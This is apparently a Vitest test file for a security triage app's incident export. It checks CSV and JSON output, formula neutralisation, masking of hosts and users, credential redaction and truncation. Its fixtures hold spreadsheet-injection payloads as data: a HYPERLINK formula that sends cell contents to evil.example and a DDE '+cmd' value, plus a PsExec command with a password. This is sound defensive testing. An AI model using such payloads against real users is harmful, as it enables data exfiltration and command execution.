import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import type { Incident } from '../../shared/domain';
import { emptyEntities, incidentSchema } from '../../shared/domain';
import { EXPORT_MAX_ROWS } from '../../shared/ipc/contract';
import { csvField } from '../../electron/core/rpc/incident-handlers';
import { parseCsv } from '../helpers/csv';
import { incidentFixture } from '../helpers/incidents';
import { triageHarness } from '../helpers/triage';

type Harness = ReturnType<typeof triageHarness>;

const HOSTS = ['WS-FIN-042', 'srv-db-07.corp.local'];
const USERS = ['CORP\\jdoe', 'anna.petrova@corp.local'];
const IPS = ['10.20.30.40'];

function incident(n: number, overrides: Partial<Incident> = {}): Incident {
  return incidentFixture({
    id: `inc_${String(n).padStart(4, '0')}`,
    fingerprint: `fp-${n}`,
    title: `Alert ${n}`,
    at: new Date(Date.UTC(2026, 10, 20, 0, n)).toISOString(),
    ...overrides,
  });
}

describe('incident export', () => {
  let h: Harness;
  let tricky: Incident;
  beforeEach(() => {
    h = triageHarness({ now: '2026-11-21T10:07:31.000Z' });
    tricky = incident(1, {
      title: 'Credential dumping, "mimikatz" on WS-FIN-042',
      description: 'line one\r\nline two\nline three, with a comma',
      severity: 'critical',
      assignee: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      category: '+cmd|" /C calc"!A0',
      vendorStatus: '-2+3',
      consoleUrl: '@SUM(1,2)',
      entities: { ...emptyEntities(), hosts: HOSTS, users: USERS, ips: IPS },
      tags: ['\tleading tab', '\rleading cr'],
      mitre: { tactics: ['TA0006'], techniques: ['T1003.001'] },
    });
    h.insert(
      tricky,
      incident(2, { severity: 'low', title: 'Plain alert' }),
      incident(3, { severity: 'high', title: 'Ünïcödé alert — 東京' }),
    );
  });
  afterEach(() => h.close());

  it('writes CSV with a header row that parses back field for field (RFC 4180)', async () => {
    const file = await h.call('incidents.export', { format: 'csv' });
    expect(file).toMatchObject({
      filename: 'vigil-incidents-2026-11-21T1007Z.csv',
      mimeType: 'text/csv; charset=utf-8',
      encoding: 'utf8',
      rows: 3,
      truncated: false,
    });
    expect(file.content.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(file.content);
    expect(header).toEqual(
      expect.arrayContaining(['id', 'title', 'severity', 'hosts', 'users', 'description']),
    );
    expect(rows).toHaveLength(3);
    expect(rows.every((r) => r.length === header!.length)).toBe(true);
    const record = (row: string[]) => Object.fromEntries(header!.map((name, k) => [name, row[k]]));
    // Most recently seen first, as the list.
    expect(rows.map((r) => record(r).id)).toEqual(['inc_0003', 'inc_0002', 'inc_0001']);
    const first = record(rows[2]!);
    expect(first).toMatchObject({
      title: tricky.title,
      description: tricky.description,
      severity: 'critical',
      hosts: HOSTS.join('; '),
      users: USERS.join('; '),
      ips: '10.20.30.40',
      mitre_techniques: 'T1003.001',
      first_seen: tricky.firstSeen,
      count: '1',
    });
    expect(record(rows[0]!).title).toBe('Ünïcödé alert — 東京');
  });

  it('neutralises spreadsheet formulas: cells starting with = + - @ tab or CR get an apostrophe', async () => {
    const file = await h.call('incidents.export', { format: 'csv', severity: ['critical'] });
    const [header, row] = parseCsv(file.content);
    const record = Object.fromEntries(header!.map((name, k) => [name, row![k]!]));
    expect(record.assignee).toBe(`'${tricky.assignee!}`);
    expect(record.category).toBe(`'${tricky.category!}`);
    expect(record.vendor_status).toBe("'-2+3");
    expect(record.console_url).toBe("'@SUM(1,2)");
    expect(record.tags).toBe("'\tleading tab; \rleading cr");
    for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('\r=x')).toBe(`"'\r=x"`);
    expect(csvField(null)).toBe('');
    expect(csvField(7)).toBe('7');
  });

  it('reports progress only to a caller that asked for it', async () => {
    await h.call('incidents.export', { format: 'csv' });
    await h.call('incidents.export', { format: 'json', progressId: 'mine' });
    const progress = h.pushed.filter((event) => event.name === 'incidents.exportProgress');
    expect(progress.map((event) => event.payload)).toEqual([{ progressId: 'mine', rows: 3, total: 3 }]);
  });

  it('exports the list filters and sort, as JSON: an array of full incidents', async () => {
    const file = await h.call('incidents.export', {
      format: 'json',
      severity: ['critical', 'high'],
      sort: 'severity',
    });
    expect(file).toMatchObject({
      filename: 'vigil-incidents-2026-11-21T1007Z.json',
      mimeType: 'application/json',
      rows: 2,
      truncated: false,
    });
    const parsed = JSON.parse(file.content) as unknown[];
    expect(parsed).toHaveLength(2);
    const incidents = parsed.map((item) => incidentSchema.strict().parse(item));
    expect(incidents.map((i) => i.id)).toEqual(['inc_0001', 'inc_0003']);
    expect(incidents[0]).toEqual(tricky);

    const none = await h.call('incidents.export', { format: 'json', q: 'nothing-like-this' });
    expect(JSON.parse(none.content)).toEqual([]);
    expect(none.rows).toBe(0);
    const noneCsv = await h.call('incidents.export', { format: 'csv', q: 'nothing-like-this' });
    expect(parseCsv(noneCsv.content)).toHaveLength(1);
  });

  it('keeps real values in an unmasked export but never a credential from the telemetry', async () => {
    h.insert(
      incident(4, {
        title: 'PsExec with a password',
        description: 'psexec \\\\WS-FIN-042 -u CORP\\jdoe -p Winter2026! cmd.exe',
        entities: { ...emptyEntities(), hosts: ['WS-FIN-042'] },
      }),
    );
    for (const format of ['csv', 'json'] as const) {
      const file = await h.call('incidents.export', { format });
      expect(file.content, format).toContain('WS-FIN-042');
      expect(file.content, format).not.toContain('Winter2026!');
      expect(file.content, format).toMatch(/SECRET_\d/);
    }
  });

  it('masks users, hosts and addresses in a masked export, even with the sanitizer switched off', async () => {
    h.config.update((draft) => {
      draft.sanitizer.enabled = false;
    });
    for (const format of ['csv', 'json'] as const) {
      const file = await h.call('incidents.export', { format, masked: true });
      expect(file.rows).toBe(3);
      // Never to be taken for (or saved over) the real-valued file.
      expect(file.filename).toMatch(
        new RegExp(`^vigil-incidents-\\d{4}-\\d{2}-\\d{2}T\\d{4}Z-masked\\.${format}$`),
      );
      for (const real of [...HOSTS, ...USERS, ...IPS, 'jdoe', 'WS-FIN', 'anna.petrova']) {
        expect(file.content.toLowerCase(), `${format}: ${real}`).not.toContain(real.toLowerCase());
      }
      expect(file.content).toMatch(/HOST_1/);
      expect(file.content).toMatch(/USER_1/);
      // What is not sensitive stays readable.
      expect(file.content).toContain('T1003.001');
      expect(file.content).toContain('Plain alert');
    }
    const json = await h.call('incidents.export', { format: 'json', masked: true });
    const masked = (JSON.parse(json.content) as Incident[]).find((i) => i.id === tricky.id)!;
    expect(masked.source).toEqual(tricky.source);
    expect(masked.entities.hosts).toHaveLength(2);
    expect(masked.entities.hosts.every((host) => /^HOST_\d+/.test(host))).toBe(true);
  });

  it(`stops at ${EXPORT_MAX_ROWS.toLocaleString('en')} rows and says the export was truncated`, async () => {
    h.db
      .prepare(
        `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?)
         INSERT INTO incidents (id, fingerprint, source_kind, source_id, source_name, title, description, severity,
           severity_rank, status, mitre, entities, host, first_seen, last_seen, count, tags, created_at, updated_at)
         SELECT printf('bulk_%07d', i), 'fp', 'webhook', 'w', 'W', 'Bulk ' || i, '', 'low', 1, 'new',
           '{"tactics":[],"techniques":[]}', '{"hosts":[],"users":[],"ips":[],"files":[],"processes":[],"urls":[],"domains":[]}',
           NULL, '2026-01-01T00:00:00.000Z', printf('2026-01-01T00:%02d:%02d.000Z', (i / 60) % 60, i % 60), 1, '[]',
           '2026-01-01T00:00:00.000Z', '2026-01-01T00:00:00.000Z'
         FROM n`,
      )
      .run(EXPORT_MAX_ROWS - 2);
    const file = await h.call('incidents.export', { format: 'csv', progressId: 'export-1' });
    expect(file).toMatchObject({ rows: EXPORT_MAX_ROWS, truncated: true });
    // Progress as it went (a few seconds of work: several reports), rising, ending at the whole file.
    const progress = h.pushed
      .filter((event) => event.name === 'incidents.exportProgress')
      .map((event) => event.payload as { progressId: string; rows: number; total: number });
    expect(progress.length).toBeGreaterThan(2);
    expect(progress.every((p) => p.progressId === 'export-1' && p.total === EXPORT_MAX_ROWS)).toBe(true);
    expect(progress.map((p) => p.rows)).toEqual([...progress.map((p) => p.rows)].sort((a, b) => a - b));
    expect(progress.at(-1)!.rows).toBe(EXPORT_MAX_ROWS);
    const records = parseCsv(file.content);
    expect(records).toHaveLength(EXPORT_MAX_ROWS + 1);
    expect(new Set(records.slice(1).map((r) => r[0])).size).toBe(EXPORT_MAX_ROWS);
    // The newest first: the three fixtures were last seen after every bulk row.
    expect(records.slice(1, 4).map((r) => r[0])).toEqual(['inc_0003', 'inc_0002', 'inc_0001']);
  }, 120_000);
});
